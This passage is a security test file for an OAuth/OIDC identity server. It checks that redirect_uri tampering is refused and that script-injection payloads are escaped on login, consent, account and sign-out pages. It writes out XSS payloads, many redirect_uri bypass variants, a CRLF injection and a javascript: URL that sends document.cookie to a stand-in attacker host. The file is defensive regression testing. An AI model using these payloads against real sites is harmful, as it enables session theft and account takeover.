// Attacks an attacker and an OAuth auditor would try and the server withstands, kept as tests so
// they keep failing: redirect_uri variants, script injection through every name a person, tenant admin or operator can
// set, JWT algorithm and key-confusion attacks on every place a JWT is verified, and server-side
// request forgery through every address encoding. (CSRF on every form and fuzzing have their own
// files: csrf.test.ts and fuzz.test.ts.)
//
// Each group first shows the same harness succeeding with the legitimate value (the registered
// redirect_uri, a token signed with the server's key, a fetch to an allowed host), so every refusal
// below is the server's doing and not the harness failing.
//
// Network rule: the only real connections made are to loopback (the server under test and the
// canary listener on 127.0.0.1 and ::1). Non-loopback private and link-local addresses
// (169.254.169.254, 10.0.0.1) are not tried: oidc-provider's guard checks the address of the
// connected socket, so trying them would send packets off the machine.
import { readFileSync } from 'node:fs'
import { lookup } from 'node:dns/promises'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import * as oidc from 'openid-client'
import { SignJWT, exportJWK, exportSPKI, generateKeyPair, importJWK, decodeJwt, decodeProtectedHeader, type JWK, type JWTPayload } from 'jose'
import { createHmac, randomUUID } from 'node:crypto'
import type { Browser } from 'playwright-core'
import { build } from 'vite'
import { createIam, type IamInstance } from '../support/iam.ts'
import { HttpBrowser, formWithAction, formsOf, signIn, type PageResponse } from '../support/browser.ts'
import { ALICE, API, SERVICE_SECRET, SPA_REDIRECT, WEB_REDIRECT, createFixtures } from '../support/fixtures.ts'
import { addTotpFactor, totpCode } from '../support/mfa-fixtures.ts'
import { startCanary, type Canary } from '../support/canary.ts'
import { startMailCatcher, type MailCatcher } from '../support/smtp.ts'
import { selfSignedLoopbackCert } from '../support/self-signed.ts'
import { launchChromium, openSession } from '../support/chromium.ts'
import { createClient } from '../../src/clients/registry.ts'
import { createUser } from '../../src/identity/users.ts'
import { assignRole, ensureRole } from '../../src/identity/roles.ts'
import { registerResourceServer } from '../../src/oidc/resource-servers.ts'
import { ADMIN_PERMISSIONS, setClientAdminPermissions } from '../../src/admin/permissions.ts'

const insecure = { execute: [oidc.allowInsecureRequests] }

// --- the clients whose redirect URIs are attacked -------------------------------------------
const APP = 'https://app.example.test/callback'
const APP_SIGNED_OUT = 'https://app.example.test/signed-out'
const APP_SECRET = 'app-secret-0123456789-0123456789-0123456789'
const NATIVE_LOOPBACK = 'http://127.0.0.1/callback'
const NATIVE_SCHEME = 'com.example.app:/oauth2redirect'
/** A well-formed S256 challenge (RFC 7636 appendix B), for requests that never reach the token endpoint. */
const SOME_CHALLENGE = 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbifgAL5g8gk'

// --- script injection -------------------------------------------------------------------------
/** Closes an attribute, opens a tag, runs script: every context it could land in. */
const PAYLOAD = `"'><script>window.__xss=1</script><img src=x onerror="window.__xss=1">`
/** What must never appear unescaped in a page: the tags the payload would inject. */
const INJECTED = [/<script>window\.__xss/i, /<img src=x/i, /onerror="window/i]
const MALLORY = { email: 'mallory+"<svg/onload=window.__xss=1>@example.test', password: 'mallory has a long passphrase' }
const XSS_SCOPE = '<img/src=x/onerror=window.__xss=1>'
const XSS_RESOURCE = 'https://xss.example.test/?q=<script>window.__xss=1</script>'
const XSS_CLIENT_URI = `https://app.example.test/about?q="><script>window.__xss=1</script>`

const SVC_ADMIN_SECRET = 'svc-admin-secret-0123456789-0123456789-abc'
const ADA = { email: 'ada@example.test', password: 'ada has a long admin passphrase' }
const ROOT = path.resolve(import.meta.dirname, '../..')

describe('attacks that must keep failing (postgres-redis)', () => {
  let iam: IamInstance
  let canary: Canary
  /** The same over HTTPS (sector_identifier_uri must be https), its certificate trusted by the server. */
  let tlsCanary: Canary
  let mail: MailCatcher
  let upstreamName: string
  let mallory: { id: string; totp: string; tenantId: string; roleId: string }
  let admin: { totp: string }

  beforeAll(async () => {
    canary = await startCanary()
    const cert = selfSignedLoopbackCert()
    tlsCanary = await startCanary({ tls: cert })
    // Mail and open registration: the registration and password-reset forms exist.
    mail = await startMailCatcher()
    // The setting allows 64 characters: the script tag alone.
    upstreamName = `Up"'><script>window.__xss=1</script>`
    iam = await createIam('postgres-redis', {
      env: {
        // Only the name `localhost` is exempt from the outbound (SSRF) policy: every other spelling
        // of loopback must be refused. The fixtures need no outbound request.
        OUTBOUND_ALLOWED_HOSTS: 'localhost',
        NODE_EXTRA_CA_CERTS: cert.certFile,
        ...mail.env,
        REGISTRATION_MODE: 'open',
        // An upstream whose operator-given name carries the payload (shown on the login page and in
        // the linked sign-ins). It is never contacted: nobody presses its button.
        FEDERATION: JSON.stringify([{ type: 'oidc', id: 'upx', name: upstreamName, issuer: 'http://127.0.0.1:9/upstream', clientId: 'iam', clientSecret: 'upstream-secret', allowInsecureRequests: true }]),
      },
    })
    await iam.withDatabase(async (prisma) => {
      await createFixtures(prisma)
      await createClient(prisma, { clientId: 'app', name: 'App', kind: 'web', secret: APP_SECRET, redirectUris: [APP], postLogoutRedirectUris: [APP_SIGNED_OUT] })
      await createClient(prisma, { clientId: 'native', name: 'Native App', kind: 'native', redirectUris: [NATIVE_LOOPBACK, NATIVE_SCHEME] })
      await createClient(prisma, { clientId: 'svc-admin', name: 'Admin automation', kind: 'service', secret: SVC_ADMIN_SECRET })
      await setClientAdminPermissions(prisma, 'svc-admin', ADMIN_PERMISSIONS)

      // Script injection: every name a person, tenant admin or operator sets that a page shows.
      const tenant = await prisma.tenant.create({ data: { slug: 'evil', name: `Tenant ${PAYLOAD}` } })
      const role = await prisma.role.create({ data: { name: `Role ${PAYLOAD}`, description: PAYLOAD, tenantId: tenant.id } })
      const user = await createUser(prisma, { email: 'mallory@example.test', password: MALLORY.password, emailVerified: true, tenantId: tenant.id })
      // Direct writes: the domain functions would refuse these characters, an import might not.
      await prisma.user.update({ where: { id: user.id }, data: { email: MALLORY.email, username: `m<b>${PAYLOAD}`, displayName: `Mallory ${PAYLOAD}`, givenName: PAYLOAD, familyName: PAYLOAD } })
      await assignRole(prisma, user.id, role.id)
      const totp = await addTotpFactor(prisma, user.id)
      await prisma.mfaFactor.updateMany({ where: { userId: user.id, kind: 'totp' }, data: { label: `App ${PAYLOAD}` } })
      await prisma.mfaFactor.create({ data: { userId: user.id, kind: 'webauthn', label: `Key ${PAYLOAD}`, verified: true, credentialId: 'xss-credential', publicKey: Buffer.from([1, 2, 3]), transports: 'usb' } })
      await prisma.federatedIdentity.create({ data: { provider: 'upx', subject: 'mallory-upstream', userId: user.id, email: `up${PAYLOAD}@example.test` } })
      mallory = { id: user.id, totp, tenantId: tenant.id, roleId: role.id }
      // What the audit log keeps of a request: its user agent and details are the requester's.
      await prisma.auditEvent.create({ data: { type: 'login_failure', outcome: 'failure', actor: PAYLOAD, userAgent: PAYLOAD, details: { login: PAYLOAD }, tenantId: tenant.id, userId: user.id } })
      // A global administrator (with a second factor) to look at all this in the console.
      const adminRole = await ensureRole(prisma, 'admin', [...ADMIN_PERMISSIONS])
      const ada = await createUser(prisma, { email: ADA.email, password: ADA.password, emailVerified: true })
      await assignRole(prisma, ada.id, adminRole.id)
      admin = { totp: await addTotpFactor(prisma, ada.id) }

      await registerResourceServer(prisma, { identifier: XSS_RESOURCE, name: `API ${PAYLOAD}`, scopes: [XSS_SCOPE] })
      await createClient(prisma, { clientId: 'xss-client', name: `Client ${PAYLOAD}`, kind: 'web', secret: APP_SECRET, redirectUris: [APP], postLogoutRedirectUris: [APP_SIGNED_OUT] })
      await prisma.client.update({
        where: { id: 'xss-client' },
        data: { metadata: { ...(await metadataOf(prisma, 'xss-client')), client_uri: XSS_CLIENT_URI, logo_uri: XSS_CLIENT_URI, policy_uri: XSS_CLIENT_URI, tos_uri: XSS_CLIENT_URI } },
      })
      await createClient(prisma, { clientId: 'js-client', name: 'JS link', kind: 'web', secret: APP_SECRET, redirectUris: [APP] })
      await prisma.client.update({
        where: { id: 'js-client' },
        data: { metadata: { ...(await metadataOf(prisma, 'js-client')), client_uri: 'javascript:window.__xss=1', policy_uri: 'javascript:window.__xss=1' } },
      })
      await createClient(prisma, { clientId: 'xss-device', name: `Device ${PAYLOAD}`, kind: 'native', redirectUris: [NATIVE_LOOPBACK] })
    })
    await iam.start()
  })

  afterAll(async () => {
    await iam?.close()
    await canary?.close()
    await tlsCanary?.close()
    await mail?.close()
  })

  async function metadataOf(prisma: Parameters<Parameters<IamInstance['withDatabase']>[0]>[0], id: string) {
    return (await prisma.client.findUniqueOrThrow({ where: { id } })).metadata as Record<string, unknown>
  }

  /** The authorization request a client would send, as a URL on this server. */
  function authUrl(clientId: string, redirectUri: string, extra: Record<string, string> = {}) {
    const url = new URL('/auth', iam.issuer)
    url.search = new URLSearchParams({
      client_id: clientId, response_type: 'code', scope: 'openid', redirect_uri: redirectUri, state: 'st',
      code_challenge: SOME_CHALLENGE, code_challenge_method: 'S256', ...extra,
    }).toString()
    return url.href
  }

  /** One GET, redirects not followed: what the browser would be told to do. */
  async function get(url: string) {
    const res = await fetch(url, { redirect: 'manual' })
    return { status: res.status, location: res.headers.get('location'), type: res.headers.get('content-type') ?? '', body: await res.text(), headers: res.headers }
  }

  /** Redeems a code at the token endpoint as the confidential `app` (client_secret_basic). */
  async function redeem(code: string, redirectUri: string, verifier: string, client = { id: 'app', secret: APP_SECRET }) {
    const res = await fetch(`${iam.issuer}/token`, {
      method: 'POST',
      headers: { authorization: `Basic ${Buffer.from(`${encodeURIComponent(client.id)}:${encodeURIComponent(client.secret)}`).toString('base64')}`, 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ grant_type: 'authorization_code', code, redirect_uri: redirectUri, code_verifier: verifier }),
    })
    return { status: res.status, json: await res.json() as Record<string, unknown> }
  }

  /** Alice signs in for `clientId` at `redirectUri`; returns where the browser was sent and the PKCE verifier. */
  async function aliceSignsIn(clientId: string, redirectUri: string, browser = new HttpBrowser(iam.issuer), extra: Record<string, string> = {}) {
    const verifier = oidc.randomPKCECodeVerifier()
    const url = new URL(authUrl(clientId, redirectUri, extra))
    url.searchParams.set('code_challenge', await oidc.calculatePKCECodeChallenge(verifier))
    const callback = await signIn(browser, url.href, { login: ALICE.email, password: ALICE.password })
    return { callback, verifier, browser }
  }

  // =============================================================================================
  describe('redirect_uri: only the registered URI, exactly', () => {
    /** Variants of https://app.example.test/callback an attacker would try. */
    const WEB_VARIANTS: Array<[string, string]> = [
      ['trailing slash', 'https://app.example.test/callback/'],
      ['host in upper case', 'https://APP.example.test/callback'],
      ['scheme in upper case', 'HTTPS://app.example.test/callback'],
      ['path in another case', 'https://app.example.test/Callback'],
      ['extra path segment', 'https://app.example.test/callback/evil'],
      ['dot-dot traversal out', 'https://app.example.test/callback/../evil'],
      ['dot-dot traversal back in', 'https://app.example.test/evil/../callback'],
      ['encoded dot-dot', 'https://app.example.test/callback/%2e%2e/evil'],
      ['query added', 'https://app.example.test/callback?next=https://evil.example'],
      ['fragment', 'https://app.example.test/callback#https://evil.example'],
      ['userinfo: registered host as user, attacker as host', 'https://app.example.test@evil.example/callback'],
      ['userinfo: attacker as user', 'https://evil.example@app.example.test/callback'],
      ['registered host as subdomain of the attacker', 'https://app.example.test.evil.example/callback'],
      ['attacker subdomain of the registered host', 'https://evil.app.example.test/callback'],
      ['trailing dot on the host', 'https://app.example.test./callback'],
      ['port changed', 'https://app.example.test:8443/callback'],
      ['default port spelled out', 'https://app.example.test:443/callback'],
      ['http instead of https', 'http://app.example.test/callback'],
      ['percent-encoded character', 'https://app.example.test/%63allback'],
      ['double-encoded character', 'https://app.example.test/%2563allback'],
      ['percent-encoded slash', 'https://app.example.test%2fcallback'],
      ['backslash before @', 'https://app.example.test\\@evil.example/callback'],
      ['backslash as path separator', 'https://evil.example\\app.example.test/callback'],
      ['leading space', ' https://app.example.test/callback'],
      ['trailing space', 'https://app.example.test/callback '],
      ['tab inside', 'https://app.example\t.test/callback'],
      ['newline at the end', 'https://app.example.test/callback\n'],
      ['CRLF header injection', 'https://app.example.test/callback\r\nLocation: https://evil.example'],
      ['NUL byte', 'https://app.example.test/callback\u0000'],
      ['Cyrillic homoglyph in the host', 'https://\u0430pp.example.test/callback'],
      ['punycode of the homoglyph', 'https://xn--pp-8cd.example.test/callback'],
      ['fullwidth characters', 'https://app\uff0eexample\uff0etest/callback'],
      ['javascript: URL', 'javascript:fetch("https://evil.example/"+document.cookie)//https://app.example.test/callback'],
      ['data: URL', 'data:text/html,<script>location="https://evil.example"</script>'],
      ['scheme-relative //evil', '//evil.example/callback'],
      ['triple slash', 'https:///evil.example/callback'],
      ['relative path', '/callback'],
      ['another site entirely', 'https://evil.example/callback'],
      ['another registered client’s URI', WEB_REDIRECT],
    ]
    /** Variants for the public SPA (http://localhost:5173/callback) and the native app. */
    const PUBLIC_VARIANTS: Array<[string, string, string]> = [
      ['spa', 'port changed (a web client gets no loopback leeway)', 'http://localhost:5174/callback'],
      ['spa', 'no port', 'http://localhost/callback'],
      ['spa', '127.0.0.1 for localhost', 'http://127.0.0.1:5173/callback'],
      ['spa', 'https for http', 'https://localhost:5173/callback'],
      ['spa', 'userinfo', 'http://localhost:5173@evil.example/callback'],
      ['spa', 'query added', `${SPA_REDIRECT}?x=1`],
      ['native', 'loopback: another path', 'http://127.0.0.1:51234/evil'],
      ['native', 'loopback: another address in 127/8', 'http://127.0.0.2:51234/callback'],
      ['native', 'loopback: localhost for 127.0.0.1', 'http://localhost:51234/callback'],
      ['native', 'loopback: [::1] for 127.0.0.1', 'http://[::1]:51234/callback'],
      ['native', 'loopback: https', 'https://127.0.0.1:51234/callback'],
      ['native', 'loopback: userinfo', 'http://evil.example@127.0.0.1:51234/callback'],
      ['native', 'loopback: query added', 'http://127.0.0.1:51234/callback?x=1'],
      ['native', 'loopback: port then host trick', 'http://127.0.0.1:51234.evil.example/callback'],
      ['native', 'private-use scheme: another scheme', 'com.example.evil:/oauth2redirect'],
      ['native', 'private-use scheme: authority added', 'com.example.app://oauth2redirect'],
      ['native', 'private-use scheme: another path', 'com.example.app:/evil'],
      ['native', 'private-use scheme: upper case', 'COM.EXAMPLE.APP:/oauth2redirect'],
    ]

    /** A refusal a person sees: our error page, and no redirect anywhere. */
    function expectRefusedWithPage(res: Awaited<ReturnType<typeof get>>, label: string) {
      expect(res.location, label).toBeNull()
      expect(res.status, label).toBe(400)
      expect(res.type, label).toMatch(/^text\/html/)
      expect(/Error code: <code>([^<]*)<\/code>/.exec(res.body)?.[1], label).toBe('invalid_redirect_uri')
    }

    it('controls: the exact registered URIs work, and a native app may use any port on the loopback address (RFC 8252 §7.3)', async () => {
      // Web client: the whole round trip to its exact URI, and the code redeems with it.
      const web = await aliceSignsIn('app', APP)
      expect(web.callback.href.startsWith(`${APP}?`)).toBe(true)
      const code = web.callback.searchParams.get('code')!
      expect((await redeem(code, APP, web.verifier)).status).toBe(200)

      const spa = await get(authUrl('spa', SPA_REDIRECT))
      expect(spa.status).toBe(303)
      expect(new URL(spa.location!, iam.issuer).origin).toBe(iam.issuer)

      // Native: the registered loopback URI had no port; the app listens on an ephemeral one.
      const browser = new HttpBrowser(iam.issuer)
      const native = await aliceSignsIn('native', 'http://127.0.0.1:51234/callback', browser)
      expect(native.callback.href.startsWith('http://127.0.0.1:51234/callback?')).toBe(true)
      const scheme = await aliceSignsIn('native', NATIVE_SCHEME, browser)
      expect(scheme.callback.href.startsWith(`${NATIVE_SCHEME}?`)).toBe(true)
    })

    it.each(WEB_VARIANTS)('web client: refuses %s with an error page', async (label, variant) => {
      expectRefusedWithPage(await get(authUrl('app', variant)), label)
    })

    it.each(PUBLIC_VARIANTS)('%s client: refuses %s with an error page', async (client, label, variant) => {
      expectRefusedWithPage(await get(authUrl(client, variant)), label)
    })

    it('an error the client would be told about is not sent to an unregistered URI either (prompt=none, bad scope, bad response_type)', async () => {
      // Without a session, prompt=none ends in login_required: delivered to the registered URI only.
      const control = await get(authUrl('app', APP, { prompt: 'none' }))
      expect(control.status).toBe(303)
      expect(new URL(control.location!).searchParams.get('error')).toBe('login_required')
      expect(control.location!.startsWith(`${APP}?`)).toBe(true)
      for (const [label, variant] of WEB_VARIANTS) {
        for (const extra of [{ prompt: 'none' }, { response_type: 'token' }, { scope: 'openid unknown-scope', prompt: 'none' }, { code_challenge_method: 'plain' }] as Array<Record<string, string>>) {
          const res = await get(authUrl('app', variant, extra))
          expect(res.location, `${label} ${JSON.stringify(extra)}`).toBeNull()
          expect(res.status, `${label} ${JSON.stringify(extra)}`).toBe(400)
        }
      }
    })

    it('refuses a second redirect_uri or client_id in the same request, and ignores a redirect_uri added to a pushed request', async () => {
      // Either order: the request is refused, and the error goes to no URI but the registered one.
      const evil = 'https://evil.example/callback'
      for (const [name, values] of [['redirect_uri', [APP, evil]], ['redirect_uri', [evil, APP]], ['client_id', ['app', 'spa']], ['client_id', ['spa', 'app']]] as const) {
        const url = new URL(authUrl('app', APP))
        url.searchParams.delete(name)
        for (const v of values) url.searchParams.append(name, v)
        const res = await get(url.href)
        const label = `${name}=${values.join(', ')}`
        if (res.location) {
          expect(res.location.startsWith(`${APP}?`), label).toBe(true)
          expect(new URL(res.location).searchParams.get('error'), label).toBe('invalid_request')
        } else {
          expect(res.status, label).toBe(400)
        }
      }
      // A legitimate pushed request, replayed by an attacker with their own redirect_uri appended:
      // the pushed parameters are the request; the browser ends at the registered URI.
      const verifier = oidc.randomPKCECodeVerifier()
      const pushed = await fetch(`${iam.issuer}/request`, {
        method: 'POST',
        headers: { authorization: `Basic ${Buffer.from(`app:${encodeURIComponent(APP_SECRET)}`).toString('base64')}`, 'content-type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({ client_id: 'app', response_type: 'code', scope: 'openid', redirect_uri: APP, code_challenge: await oidc.calculatePKCECodeChallenge(verifier), code_challenge_method: 'S256' }),
      })
      expect(pushed.status).toBe(201)
      const { request_uri: requestUri } = await pushed.json() as { request_uri: string }
      const attack = `${iam.issuer}/auth?${new URLSearchParams({ client_id: 'app', request_uri: requestUri, redirect_uri: 'https://evil.example/callback' })}`
      const first = await get(attack)
      if (first.location) expect(new URL(first.location, iam.issuer).origin).toBe(iam.issuer)
      if (first.status === 303) {
        const callback = await signIn(new HttpBrowser(iam.issuer), attack, { login: ALICE.email, password: ALICE.password })
        expect(callback.href.startsWith(`${APP}?`)).toBe(true)
      } else {
        expect(first.status).toBe(400)
      }
    })

    it('pushed authorization requests refuse the same variants (OAuth error JSON, no request_uri)', async () => {
      for (const [label, variant] of WEB_VARIANTS.slice(0, 16)) {
        const res = await fetch(`${iam.issuer}/request`, {
          method: 'POST',
          headers: { authorization: `Basic ${Buffer.from(`app:${encodeURIComponent(APP_SECRET)}`).toString('base64')}`, 'content-type': 'application/x-www-form-urlencoded' },
          body: new URLSearchParams({ client_id: 'app', response_type: 'code', scope: 'openid', redirect_uri: variant, code_challenge: SOME_CHALLENGE, code_challenge_method: 'S256' }),
        })
        const body = await res.json() as Record<string, unknown>
        expect(res.status, label).toBe(400)
        // RFC 9126 answers with the authorization endpoint's errors: invalid_request, saying why.
        expect(body, label).toEqual({ error: 'invalid_request', error_description: "redirect_uri did not match any of the client's registered redirect_uris" })
      }
    })

    it('the token endpoint refuses a code redeemed with a redirect_uri other than the one it was issued for', async () => {
      const browser = new HttpBrowser(iam.issuer)
      for (const variant of ['https://app.example.test/callback/', 'https://APP.example.test/callback', 'https://evil.example/callback', `${APP}?x=1`]) {
        const { callback, verifier } = await aliceSignsIn('app', APP, browser)
        const res = await redeem(callback.searchParams.get('code')!, variant, verifier)
        expect(res.status, variant).toBe(400)
        expect(res.json.error, variant).toBe('invalid_grant')
      }
      // Native: a code issued at one loopback port cannot be redeemed at another.
      const { callback, verifier } = await aliceSignsIn('native', 'http://127.0.0.1:51234/callback', browser)
      const res = await fetch(`${iam.issuer}/token`, {
        method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({ grant_type: 'authorization_code', client_id: 'native', code: callback.searchParams.get('code')!, redirect_uri: 'http://127.0.0.1:51235/callback', code_verifier: verifier }),
      })
      expect(res.status).toBe(400)
      expect((await res.json() as { error: string }).error).toBe('invalid_grant')
    })

    it('sign-out sends nobody to an unregistered post_logout_redirect_uri', async () => {
      const { callback, verifier } = await aliceSignsIn('app', APP)
      const tokens = await redeem(callback.searchParams.get('code')!, APP, verifier)
      const idToken = tokens.json.id_token as string
      const endSession = (uri: string) => `${iam.issuer}/session/end?${new URLSearchParams({ id_token_hint: idToken, post_logout_redirect_uri: uri, client_id: 'app' })}`
      // Control: the registered URI is accepted (with no session here, the provider's page that
      // submits the sign-out at once).
      const ok = await get(endSession(APP_SIGNED_OUT))
      expect(ok.status).toBe(200)
      expect(ok.body).toContain('/session/end/confirm')
      for (const variant of [`${APP_SIGNED_OUT}/`, 'https://app.example.test@evil.example/signed-out', 'https://evil.example/signed-out', '//evil.example/signed-out', 'javascript:alert(1)', `${APP_SIGNED_OUT}?x=1`]) {
        const res = await get(endSession(variant))
        expect(res.location, variant).toBeNull()
        expect(res.status, variant).toBe(400)
        expect(res.body, variant).not.toContain('evil.example')
      }
    })
  })

  // =============================================================================================
  describe('script injection: every name a page shows is escaped', () => {
    function expectEscaped(page: PageResponse | { body: string }, where: string, mustShow = true) {
      for (const pattern of INJECTED) expect(page.body, `${where}: ${pattern}`).not.toMatch(pattern)
      expect(page.body, where).not.toMatch(/href="\s*javascript:/i)
      if (mustShow) expect(page.body, `${where} shows the payload as text`).toContain('&lt;script&gt;window.__xss=1&lt;/script&gt;')
    }

    async function resetTotp() {
      await iam.databaseNow((prisma) => prisma.mfaFactor.updateMany({ where: { userId: mallory.id }, data: { lastUsedStep: null } }))
    }

    /** Mallory through the login, factor choice and code pages to wherever `url` leads; checks each page on the way. */
    async function malloryThrough(browser: HttpBrowser, url: string, seen: Record<string, string>) {
      await resetTotp()
      let res = await browser.navigate(url)
      const post = (suffix: string, fields: Record<string, string>) => {
        const form = formWithAction(res.body, suffix)
        return browser.navigate(new URL(form.action, iam.issuer).href, { form: { ...form.fields, ...fields } })
      }
      for (let step = 0; step < 8 && new URL(res.url).origin === iam.issuer; step++) {
        if (/\/login"/.test(res.body)) {
          seen.login = res.body
          res = await post('/login', { login: MALLORY.email, password: MALLORY.password })
        } else if (/\/mfa\/select"/.test(res.body)) {
          seen.mfaChoose = res.body
          const totp = /name="method" value="([^"]*)"[^>]*>Code from App/.exec(res.body)?.[1]
          expect(totp, 'the TOTP factor is offered').toBeTruthy()
          res = await post('/mfa/select', { method: totp! })
        } else if (/\/mfa\/verify"/.test(res.body)) {
          seen.mfaCode = res.body
          res = await post('/mfa/verify', { code: await totpCode(mallory.totp) })
        } else if (/\/consent"/.test(res.body)) {
          seen.consent = res.body
          res = await post('/consent', {})
        } else break
      }
      return res
    }

    it('shows the person’s, tenant’s, role’s, factors’, upstream’s and client’s names as text on every page', async () => {
      const browser = new HttpBrowser(iam.issuer)
      const seen: Record<string, string> = {}
      // The authorization pages for a client whose name and URIs carry the payload, asking for a
      // resource whose identifier and scope carry it too.
      const verifier = oidc.randomPKCECodeVerifier()
      const url = new URL(authUrl('xss-client', APP, { scope: `openid profile ${XSS_SCOPE}`, resource: XSS_RESOURCE, prompt: 'consent', login_hint: PAYLOAD }))
      url.searchParams.set('code_challenge', await oidc.calculatePKCECodeChallenge(verifier))
      const end = await malloryThrough(browser, url.href, seen)
      expect(end.url.startsWith(`${APP}?`), 'the sign-in completed').toBe(true)
      expect(new URL(end.url).searchParams.get('code')).toBeTruthy()
      for (const page of ['login', 'mfaChoose', 'mfaCode', 'consent']) expect(seen[page], `${page} page seen`).toBeDefined()
      expectEscaped({ body: seen.login! }, 'login page (client name, upstream name, login_hint)')
      expect(seen.login).toContain('Client &quot;&#39;&gt;&lt;script&gt;')
      expect(seen.login).toContain('Up&quot;&#39;&gt;&lt;script&gt;')
      expectEscaped({ body: seen.mfaChoose! }, 'factor choice (factor labels)')
      expectEscaped({ body: seen.mfaCode! }, 'code page (factor label)')
      expectEscaped({ body: seen.consent! }, 'consent (client name, client_uri, resource, scope)')
      expect(seen.consent).toContain('&lt;img/src=x/onerror=window.__xss=1&gt;')

      // The account area: name, email, username, tenant, roles; factor labels; upstream and link email; sessions.
      await iam.databaseNow((prisma) => prisma.userSession.updateMany({ where: { userId: mallory.id }, data: { browser: `Browser ${PAYLOAD}`, os: PAYLOAD } }))
      const accountSeen: Record<string, string> = {}
      const account = await malloryThrough(browser, `${iam.issuer}/account`, accountSeen)
      expect(account.status).toBe(200)
      expect(account.body).toContain('Your account')
      expectEscaped(account, 'account page')
      for (const where of ['Mallory', 'Tenant', 'Role']) expect(account.body, where).toContain(`${where} &quot;&#39;&gt;&lt;script&gt;`)
      expect(account.body).toContain('mallory+&quot;&lt;svg/onload=window.__xss=1&gt;@example.test')
      expect(account.body).not.toContain('<svg')
      for (const [path, shows] of [['/account/security', 'App &quot;'], ['/account/linked', 'Up&quot;&#39;&gt;'], ['/account/sessions', 'Browser &quot;']] as const) {
        const page = await browser.navigate(`${iam.issuer}${path}`)
        expect(page.status, path).toBe(200)
        expectEscaped(page, path)
        expect(page.body, path).toContain(shows)
      }
    })

    it('shows a client’s name and address escaped on the sign-out pages, and a javascript: client_uri never becomes a link', async () => {
      const { callback, verifier, browser } = await aliceSignsIn('xss-client', APP)
      const tokens = await redeem(callback.searchParams.get('code')!, APP, verifier, { id: 'xss-client', secret: APP_SECRET })
      const logout = await browser.navigate(`${iam.issuer}/session/end?${new URLSearchParams({ id_token_hint: tokens.json.id_token as string, client_id: 'xss-client' })}`)
      expect(logout.body).toContain('Sign out?')
      expectEscaped(logout, 'logout page')
      const form = formsOf(logout.body)[0]!
      const done = await browser.navigate(new URL(form.action, iam.issuer).href, { form: { ...form.fields, logout: 'yes' } })
      expect(done.body).toContain('You are signed out')
      // The page after signing out of one client names it and links to its client_uri; anyone can
      // link to it with any client_id.
      const success = await get(`${iam.issuer}/session/end/success?client_id=xss-client`)
      expect(success.body).toContain('You have signed out of <strong>Client &quot;')
      expectEscaped(success, 'logged-out page')
      // client_uri is a link here, its value an escaped attribute: no way out of href="…".
      expect(success.body).toContain('href="https://app.example.test/about?q=&quot;&gt;&lt;script&gt;window.__xss=1&lt;/script&gt;"')

      // A client registered (by a direct write) with javascript: URIs: the provider refuses the
      // client as a whole, so no page of it is shown and its URI is never a link.
      const js = await get(authUrl('js-client', APP))
      expect(js.location).toBeNull()
      expect(js.status).toBe(400)
      expect(js.body).not.toMatch(/javascript:/i)
      for (const url of [`${iam.issuer}/session/end?client_id=js-client`, `${iam.issuer}/session/end/success?client_id=js-client`]) {
        const page = await get(url)
        expect(page.status, url).toBe(400)
        expect(page.body, url).not.toMatch(/javascript:/i)
      }
    })

    it('shows a device client’s name escaped on the device confirmation page', async () => {
      const auth = await fetch(`${iam.issuer}/device/auth`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ client_id: 'xss-device', scope: 'openid' }) })
      expect(auth.status).toBe(200)
      const { user_code: userCode } = await auth.json() as { user_code: string }
      const browser = new HttpBrowser(iam.issuer)
      const input = await browser.navigate(`${iam.issuer}/device`)
      const form = formsOf(input.body).find((f) => 'user_code' in f.fields)!
      let res = await browser.navigate(new URL(form.action, iam.issuer).href, { form: { ...form.fields, user_code: userCode } })
      if (/\/login"/.test(res.body)) {
        const login = formWithAction(res.body, '/login')
        res = await browser.navigate(new URL(login.action, iam.issuer).href, { form: { ...login.fields, login: ALICE.email, password: ALICE.password } })
      }
      expect(res.body).toContain('Confirm the device')
      expectEscaped(res, 'device confirmation')
    })

    it('escapes what a person typed when a form comes back with an error (sign-in, registration, password reset)', async () => {
      const browser = new HttpBrowser(iam.issuer)
      const start = await browser.navigate(authUrl('spa', SPA_REDIRECT))
      const login = formWithAction(start.body, '/login')
      const failed = await browser.navigate(new URL(login.action, iam.issuer).href, { form: { ...login.fields, login: PAYLOAD, password: 'not the password' } })
      expect(failed.status).toBe(400)
      expectEscaped(failed, 'sign-in form')
      expect(failed.body).toContain('value="&quot;&#39;&gt;&lt;script&gt;')

      const uid = /^\/interaction\/([^/]+)\/login$/.exec(login.action)![1]!
      const registerPage = await browser.navigate(`${iam.issuer}/interaction/${uid}/register`)
      const register = formWithAction(registerPage.body, '/register')
      const refused = await browser.navigate(new URL(register.action, iam.issuer).href, { form: { ...register.fields, email: PAYLOAD, name: PAYLOAD, password: 'short', confirm: 'other' } })
      expect(refused.status).toBe(400)
      expectEscaped(refused, 'registration form')

      const forgotPage = await browser.navigate(`${iam.issuer}/self-service/forgot-password`)
      const forgot = formWithAction(forgotPage.body, '/forgot-password')
      const bad = await browser.navigate(new URL(forgot.action, iam.issuer).href, { form: { ...forgot.fields, email: PAYLOAD } })
      expect(bad.status).toBe(400)
      expectEscaped(bad, 'password reset form')
    })

    it('escapes state in a form_post response (the page that carries the answer to the client)', async () => {
      // Without a session, prompt=none is answered at once: login_required, posted to the registered URI by a page of ours.
      const res = await get(authUrl('app', APP, { response_mode: 'form_post', prompt: 'none', state: PAYLOAD }))
      // (oidc-provider answers an error response with status 400, the page still carries it.)
      expect(res.status).toBe(400)
      expect(res.location).toBeNull()
      expect(res.body).toContain(`action="${APP}"`)
      expect(res.body).toContain('login_required')
      for (const pattern of INJECTED) expect(res.body, String(pattern)).not.toMatch(pattern)
      expect(res.body).toMatch(/name="state" value="&quot;&#39;&gt;&lt;script&gt;/)
    })

    it('escapes what a request reflects into error and sign-in pages', async () => {
      const pages = [
        await get(authUrl(PAYLOAD, APP)),
        await get(authUrl('spa', SPA_REDIRECT, { prompt: PAYLOAD })),
        await get(authUrl('spa', SPA_REDIRECT, { response_mode: PAYLOAD })),
        await get(authUrl('spa', SPA_REDIRECT, { claims: PAYLOAD })),
